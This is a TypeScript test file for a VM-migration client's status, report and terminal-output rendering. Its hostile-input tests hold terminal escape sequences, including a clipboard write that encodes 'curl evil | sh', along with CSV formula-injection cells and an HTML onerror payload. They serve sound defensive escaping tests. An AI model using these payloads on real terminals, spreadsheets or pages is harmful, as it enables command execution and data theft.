import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { BatchView, VmView } from '../../client/batch-view';
import { statusJson } from '../../client/batch-view';
import { REPORT_COLUMNS, reportRows } from '../../client/commands/report';
import { exitCodeFor } from '../../client/commands/status';
import { paint, useColor } from '../../client/output/color';
import { renderProblems } from '../../client/output/problems';
import { parse } from 'csv-parse/sync';
import { renderReport } from '../../client/output/report';
import type { ReportRow } from '../../client/output/report';
import { changeLines, progressBar, renderStatus } from '../../client/output/status';
import { jsonText, layoutText, visible, visibleValue } from '../../client/output/terminal-text';
import type { Phase } from '../../common/contracts/migration';

function vm(name: string, phase: Phase, extra: Partial<VmView> = {}): VmView {
  return {
    name,
    phase,
    percent: phase === 'Completed' ? 100 : 0,
    conversionTaskId: null,
    instanceId: null,
    volumeId: null,
    bytesUploaded: 0,
    error: null,
    errorType: null,
    startedAt: '2026-01-01T00:00:00.000Z',
    finishedAt: null,
    ...extra,
  };
}

const view = (vms: VmView[], over: Partial<BatchView> = {}): BatchView => ({
  batch: 'b1',
  state: 'running',
  total: 12,
  vms,
  ...over,
});

const ALL_PHASES: Phase[] = [
  'Pending',
  'Preflight',
  'Uploading',
  'WaitingForSlot',
  'Importing',
  'Converting',
  'Validating',
  'CleaningUp',
  'Completed',
  'Failed',
  'Cancelled',
];

test('status --json groups phases as the contract says and keeps its exact shape', () => {
  const vms = ALL_PHASES.map((phase, i) =>
    vm(`vm-${i}`, phase, phase === 'Completed' ? { instanceId: 'i-1', conversionTaskId: 'import-i-1' } : {})
  );
  const json = statusJson(view(vms, { total: 14 }));
  assert.deepEqual(Object.keys(json), ['batch', 'state', 'counts', 'vms']);
  assert.deepEqual(json.counts, {
    pending: 4,
    uploading: 2,
    converting: 3,
    validating: 2,
    completed: 1,
    failed: 1,
    cancelled: 1,
  });
  assert.equal(
    Object.values(json.counts).reduce((a, b) => a + b, 0),
    14,
    'the counts add up to the batch size'
  );
  assert.deepEqual(Object.keys(json.vms[0]!), [
    'name',
    'phase',
    'percent',
    'conversionTaskId',
    'instanceId',
    'error',
    'inspection',
  ]);
  assert.deepEqual(json.vms[8], {
    name: 'vm-8',
    phase: 'Completed',
    percent: 100,
    conversionTaskId: 'import-i-1',
    instanceId: 'i-1',
    error: null,
    inspection: null,
  });
});

test('the status table has no colour codes unless asked, and shows bars on a terminal', () => {
  const v = view(
    [
      vm('web-01', 'Uploading', { percent: 40 }),
      vm('db-01', 'Failed', { error: 'x'.repeat(200), errorType: 'ConversionFailed' }),
    ],
    { pauseReason: 'change freeze', state: 'paused' }
  );
  const plain = renderStatus(v);
  assert.ok(!plain.includes('\x1b['), 'no escape codes');
  assert.match(
    plain,
    /^batch b1: paused \(change freeze\), 12 VMs\n10 pending, 1 uploading, 0 converting, 0 validating, 0 completed, 1 failed, 0 cancelled/
  );
  assert.match(plain, /web-01 .*Uploading .* 40 /);
  assert.match(plain, /x{79}…/, 'long errors are cut');
  const coloured = renderStatus(v, { color: true, bars: true });
  assert.ok(coloured.includes('\x1b[31mFailed\x1b[39m'), 'failed in red');
  assert.ok(coloured.includes(`${'█'.repeat(8)}${'░'.repeat(12)}  40%`), 'a progress bar');
  assert.equal(progressBar(0, 4), '░░░░   0%');
  assert.equal(progressBar(100, 4), '████ 100%');
  assert.equal(progressBar(250, 4), '████ 100%');
});

test('watching without a terminal prints one line per change', () => {
  const now = new Date('2026-01-01T10:00:05Z');
  const first = view([vm('web-01', 'Uploading')]);
  assert.deepEqual(changeLines(undefined, first, now), [
    '10:00:05 web-01 Uploading',
    '10:00:05 batch b1 running: 11 pending, 1 uploading, 0 converting, 0 validating, 0 completed, 0 failed, 0 cancelled',
  ]);
  assert.deepEqual(
    changeLines(first, view([vm('web-01', 'Uploading', { percent: 50 })]), now),
    [],
    'progress alone is no change'
  );
  const done = view(
    [
      vm('web-01', 'Completed', { instanceId: 'i-0abc' }),
      vm('db-01', 'Failed', { errorType: 'ConversionFailed', error: 'Unsupported kernel' }),
    ],
    { state: 'failed' }
  );
  assert.deepEqual(changeLines(first, done, now), [
    '10:00:05 web-01 Completed i-0abc',
    '10:00:05 db-01 Failed ConversionFailed: Unsupported kernel',
    '10:00:05 batch b1 failed: 10 pending, 0 uploading, 0 converting, 0 validating, 1 completed, 1 failed, 0 cancelled',
  ]);
});

test('the exit code is 2 only for a batch that ended with failed VMs', () => {
  assert.equal(exitCodeFor(view([vm('a', 'Failed')], { state: 'failed' })), 2);
  assert.equal(exitCodeFor(view([vm('a', 'Failed')], { state: 'cancelled' })), 2);
  assert.equal(exitCodeFor(view([vm('a', 'Failed')], { state: 'running' })), 0);
  assert.equal(exitCodeFor(view([vm('a', 'Completed'), vm('b', 'Cancelled')], { state: 'completed' })), 0);
});

test('reports in CSV, JSON and Markdown have one row per VM with the contract columns', () => {
  const rows = reportRows([
    vm('a', 'Failed', {
      bytesUploaded: 5,
      error: 'bad "x", y\nsecond line',
      errorType: 'ConversionFailed',
      finishedAt: '2026-01-01T00:01:00.000Z',
    }),
    vm('b|c', 'Completed', {
      instanceId: 'i-1',
      volumeId: 'vol-1',
      conversionTaskId: 'import-i-1',
      bytesUploaded: 7,
      finishedAt: '2026-01-01T00:00:30.400Z',
    }),
    vm('d', 'Uploading'),
  ]);
  assert.deepEqual(Object.keys(rows[0]!), [...REPORT_COLUMNS]);
  assert.deepEqual(
    rows.map((r) => r.duration_s),
    [60, 30, null]
  );

  const csv = renderReport(rows, 'csv').split('\n');
  assert.equal(
    csv[0],
    'name,status,instance_id,volume_id,conversion_task_id,bytes_uploaded,started_at,finished_at,duration_s,error_type,error_message,inspection,guest,inspection_reasons,aws_account_id,aws_region'
  );
  assert.equal(
    csv[1],
    'a,Failed,,,,5,2026-01-01T00:00:00.000Z,2026-01-01T00:01:00.000Z,60,ConversionFailed,"bad ""x"", y'
  );
  assert.equal(csv[2], 'second line",,,,,');
  assert.equal(
    csv[3],
    'b|c,Completed,i-1,vol-1,import-i-1,7,2026-01-01T00:00:00.000Z,2026-01-01T00:00:30.400Z,30,,,,,,,'
  );

  const json = JSON.parse(renderReport(rows, 'json')) as typeof rows;
  assert.deepEqual(json, rows);

  const md = renderReport(rows, 'md').split('\n');
  assert.equal(md.length, 5);
  assert.equal(md[0], `| ${REPORT_COLUMNS.join(' | ')} |`);
  assert.match(md[2]!, /bad "x", y second line \| {2}\| {2}\| {2}\| {2}\| {2}\|$/);
  assert.match(md[3]!, /^\| b\\\|c \| Completed \| i-1 /);
});

test('inventory problems render as file:line [column]: message, with a summary', () => {
  const text = renderProblems('inv.csv', {
    ok: false,
    errors: [
      { line: 1, column: 'colour', message: 'unknown column "colour"' },
      { line: 4, message: '3 cells, but the header has 5 columns' },
    ],
  });
  assert.equal(
    text,
    'inv.csv:1 [colour]: unknown column "colour"\ninv.csv:4: 3 cells, but the header has 5 columns\n✖ 2 problems in inv.csv; nothing was started'
  );
});

test('colours are off with NO_COLOR, TERM=dumb or without a terminal', () => {
  assert.equal(useColor({ isTTY: true }, {}), true);
  assert.equal(useColor({ isTTY: true }, { NO_COLOR: '1' }), false);
  assert.equal(useColor({ isTTY: true }, { TERM: 'dumb' }), false);
  assert.equal(useColor({ isTTY: false }, {}), false);
  assert.equal(paint(false).red('x'), 'x');
});

/** What a hostile inventory or a hostile answer can put in a name, a tag or a message. */
const HOSTILE = {
  clear: 'db\x1b[2J\x1b[H',
  title: 'web\x1b]0;pwned\x07',
  hyperlink: '\x1b]8;;http://evil\x07click\x1b]8;;\x07',
  clipboard: '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
  c1Csi: 'a\u009b31mred',
  bidi: 'invoice\u202excod.exe',
  forgedLine: 'x\n✔ every VM completed',
  overwrite: 'ok\rFAILED',
  nul: 'a\x00b\x7fc\u2028d',
};

test('a control character in a value is shown as an escape, never passed to the terminal (golden)', () => {
  assert.deepEqual(Object.fromEntries(Object.entries(HOSTILE).map(([k, v]) => [k, visible(v)])), {
    clear: 'db\\x1b[2J\\x1b[H',
    title: 'web\\x1b]0;pwned\\x07',
    hyperlink: '\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07',
    clipboard: '\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07',
    c1Csi: 'a\\x9b31mred',
    bidi: 'invoice\\u202excod.exe',
    forgedLine: 'x\\n✔ every VM completed',
    overwrite: 'ok\\rFAILED',
    nul: 'a\\x00b\\x7fc\\u2028d',
  });
  assert.equal(visible('web-01 ünïcode ✔ 日本'), 'web-01 ünïcode ✔ 日本', 'printable text is untouched');
  assert.equal(visible(visible(HOSTILE.clear)), visible(HOSTILE.clear), 'escaping twice changes nothing more');
  const copy = visibleValue({ vms: [{ name: HOSTILE.title, n: 1, at: null }], tags: { [HOSTILE.clear]: 'v' } });
  assert.deepEqual(copy, {
    vms: [{ name: 'web\\x1b]0;pwned\\x07', n: 1, at: null }],
    tags: { 'db\\x1b[2J\\x1b[H': 'v' },
  });
});

test('composed text keeps its own layout (newlines, tabs, colours when on) and nothing else', () => {
  const composed = `line 1\n\tline 2 \x1b[31mred\x1b[39m \x1b[2J\x1b]0;t\x07\r\u009b1m`;
  assert.equal(
    layoutText(composed, true),
    'line 1\n\tline 2 \x1b[31mred\x1b[39m \\x1b[2J\\x1b]0;t\\x07\\r\\x9b1m',
    'colour kept, the rest escaped'
  );
  assert.equal(
    layoutText(composed),
    'line 1\n\tline 2 \\x1b[31mred\\x1b[39m \\x1b[2J\\x1b]0;t\\x07\\r\\x9b1m',
    'no colour allowed: every ESC escaped'
  );
});

test('JSON escapes what JSON.stringify leaves raw (C1, DEL, bidi) and still parses to the same value', () => {
  const value = { name: HOSTILE.c1Csi, bidi: HOSTILE.bidi, nul: HOSTILE.nul };
  const text = jsonText(value);
  assert.equal(text, '{"name":"a\\u009b31mred","bidi":"invoice\\u202excod.exe","nul":"a\\u0000b\\u007fc\\u2028d"}');
  // eslint-disable-next-line no-control-regex -- looking for raw control characters
  assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2028]/);
  assert.deepEqual(JSON.parse(text), value);
});

function reportRow(over: Partial<ReportRow>): ReportRow {
  const row = Object.fromEntries(REPORT_COLUMNS.map((c) => [c, null])) as ReportRow;
  return { ...row, status: 'Failed', bytes_uploaded: 0, ...over };
}

test('CSV report: formula cells are neutralised with a quote, numbers stay numbers (golden)', () => {
  const rows = [
    reportRow({ name: '=HYPERLINK("http://evil","x")', error_message: '+cmd|/c calc' }),
    reportRow({ name: '-2+3', error_type: '@SUM(A1)', bytes_uploaded: -5 }),
    reportRow({ name: '\tx', error_message: '\rcmd' }),
    reportRow({ name: '＝1', error_message: 'a,b "c"' }),
    reportRow({ name: 'web-01', status: 'Completed', instance_id: 'i-0abc', duration_s: 30 }),
  ];
  const csv = renderReport(rows, 'csv');
  assert.equal(
    csv,
    [
      REPORT_COLUMNS.join(','),
      `"'=HYPERLINK(""http://evil"",""x"")",Failed,,,,0,,,,,'+cmd|/c calc,,,,,`,
      "'-2+3,Failed,,,,-5,,,,'@SUM(A1),,,,,,",
      '\'\tx,Failed,,,,0,,,,,"\'\rcmd",,,,,',
      '\'＝1,Failed,,,,0,,,,,"a,b ""c""",,,,,',
      'web-01,Completed,i-0abc,,,0,,,30,,,,,,,',
    ].join('\n')
  );
  // Read back as a spreadsheet would: no cell starts with a formula character.
  const records: string[][] = parse(csv, { from_line: 2 });
  const cells = records.flat();
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r＝＋＠]|^-\D/, `cell ${JSON.stringify(cell)}`);
  assert.equal(cells.filter((c) => c.startsWith("'")).length, 7);
});

test('Markdown report: links, images, HTML and autolinks in names and messages render as text (golden)', () => {
  const rows = [
    reportRow({ name: '[x](http://evil)', error_message: '<img src=x onerror=alert(1)>' }),
    reportRow({ name: '![i](http://evil/p.png)', error_message: 'see http://evil.com or www.evil.com' }),
    reportRow({ name: '`a`|**b**_c_~d~$e$', error_message: '&lt;b&gt; \\ <http://evil>\nline 2' }),
  ];
  const md = renderReport(rows, 'md').split('\n');
  assert.equal(md.length, 5);
  const cells = md.slice(2).map((line) => line.split(' | ').map((c) => c.replace(/^\| |\s\|$/g, '')));
  assert.deepEqual(
    cells.map((c) => [c[0], c[10]]),
    [
      ['\\[x\\]\\(http\\://evil\\)', '&lt;img src=x onerror=alert\\(1\\)&gt;'],
      ['\\!\\[i\\]\\(http\\://evil/p.png\\)', 'see http\\://evil.com or www\\.evil.com'],
      ['\\`a\\`\\|\\*\\*b\\*\\*\\_c\\_\\~d\\~\\$e\\$', '&amp;lt;b&amp;gt; \\\\ &lt;http\\://evil&gt; line 2'],
    ]
  );
  assert.ok(
    md.slice(2).every((line) => !/[<>]|(?<!\\)[[\]]/.test(line)),
    'no raw HTML and no unescaped bracket in any row'
  );
});
